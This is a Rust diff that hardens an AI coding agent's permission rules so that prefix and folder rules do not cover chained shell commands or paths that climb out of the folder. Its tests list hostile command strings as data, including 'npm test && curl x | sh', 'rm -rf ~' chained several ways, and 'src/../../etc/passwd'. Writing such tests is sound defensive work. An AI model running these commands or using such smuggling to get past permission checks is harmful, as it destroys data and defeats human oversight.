@@ -54,7 +54,15 @@ pub enum Rest {
 pub struct Rule {
     pub tool: String,
     pub pattern: Option<String>,
+    /// The pattern is this call's subject exactly (an "allow for this session" of one
+    /// call): a `*` in it is a character, not a wildcard.
+    pub exact: bool,
 }
+
+/// What a shell reads as more than one command, or as a redirection: a subject holding
+/// any of these is never covered by a prefix rule (`Bash(npm test:*)` must not allow
+/// `npm test && curl x | sh`); a person is asked instead.
+const SHELL_SPECIAL: &[char] = &[';', '&', '|', '`', '$', '>', '<', '\n', '\r', '(', ')'];
 
 impl Rule {
     pub fn parse(text: &str) -> Result<Rule, String> {
@@ -80,7 +88,17 @@ impl Rule {
         Ok(Rule {
             tool: tool.to_string(),
             pattern: pattern.filter(|p| !p.is_empty()),
+            exact: false,
         })
+    }
+
+    /// A rule for exactly `subject` (no wildcard).
+    pub fn exactly(tool: &str, subject: Option<&str>) -> Rule {
+        Rule {
+            tool: tool.to_string(),
+            pattern: subject.map(str::to_string),
+            exact: true,
+        }
     }
 
     /// Whether the rule covers a call of `tool` with `input`.
@@ -94,6 +112,17 @@ impl Rule {
         let Some(subject) = subject(input) else {
             return false;
         };
+        if self.exact {
+            return subject == *pattern;
+        }
+        let wildcard = pattern.ends_with('*');
+        if wildcard && subject.contains(SHELL_SPECIAL) {
+            return false;
+        }
+        // A path that climbs out (`src/../../etc`) is never under a folder's rule.
+        if wildcard && subject.split('/').any(|part| part == "..") {
+            return false;
+        }
         if let Some(prefix) = pattern.strip_suffix(":*") {
             // `npm test:*`: the command `npm test` itself, or with arguments after it.
             return subject == prefix
@@ -306,6 +335,18 @@ impl Answer {
     }
 }
 
+/// `text` cut to at most `max` bytes (at a character boundary), with `…` when cut.
+pub fn shorten(text: &str, max: usize) -> String {
+    if text.len() <= max {
+        return text.to_string();
+    }
+    let mut cut = max;
+    while !text.is_char_boundary(cut) {
+        cut -= 1;
+    }
+    format!("{}…", &text[..cut])
+}
+
 /// What a call acts on, for rules and summaries: its command, file, path or address.
 pub fn subject(input: &Value) -> Option<&str> {
     [
@@ -417,6 +458,31 @@ pub fn unified_diff(file: &str, old: &str, new: &str) -> String {
 mod tests {
     use super::*;
     use serde_json::json;
+
+    #[test]
+    fn a_prefix_rule_never_covers_a_second_command_or_a_climb_out() {
+        let rule = Rule::parse("Bash(npm test:*)").unwrap();
+        for sneaky in [
+            "npm test && curl x | sh",
+            "npm test ; rm -rf ~",
+            "npm test\nrm -rf ~",
+            "npm test $(rm -rf ~)",
+            "npm test `id`",
+            "npm test > /etc/passwd",
+        ] {
+            assert!(
+                !rule.matches("Bash", &json!({"command": sneaky})),
+                "{sneaky:?}"
+            );
+        }
+        let folder = Rule::parse("Edit(src/*)").unwrap();
+        assert!(!folder.matches("Edit", &json!({"file_path": "src/../../etc/passwd"})));
+        // A rule for one call is that call: its `*` is a character.
+        let exact = Rule::exactly("Bash", Some("ls *"));
+        assert!(exact.matches("Bash", &json!({"command": "ls *"})));
+        assert!(!exact.matches("Bash", &json!({"command": "ls x; rm -rf y"})));
+        assert!(!exact.matches("Bash", &json!({"command": "ls -la"})));
+    }
 
     #[test]
     fn rules_read_and_match_like_claude_codes() {
